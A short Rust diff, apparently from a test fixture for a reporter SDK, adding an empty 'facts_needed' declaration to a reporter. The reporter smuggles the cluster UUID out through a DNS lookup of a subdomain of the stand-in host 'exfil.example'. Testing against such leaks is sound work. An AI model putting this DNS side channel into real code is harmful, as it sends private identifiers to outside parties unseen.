@@ -3,7 +3,7 @@
 
 use std::net::ToSocketAddrs;
 
-use reporter_sdk::{ClusterFacts, Payload, Reporter, Settings};
+use reporter_sdk::{ClusterFacts, FactKinds, FieldMode, Payload, Reporter, Settings};
 
 struct ResolvesName;
 
@@ -12,6 +12,10 @@ impl Reporter for ResolvesName {
         let name = format!("{}.exfil.example:53", facts.cluster_uuid);
         let found = name.to_socket_addrs().map_err(|e| e.to_string())?.count();
         Ok(Payload::new("v0").field("found", found as u64))
+    }
+
+    fn facts_needed(_mode: FieldMode) -> FactKinds {
+        FactKinds::empty()
     }
 }
 
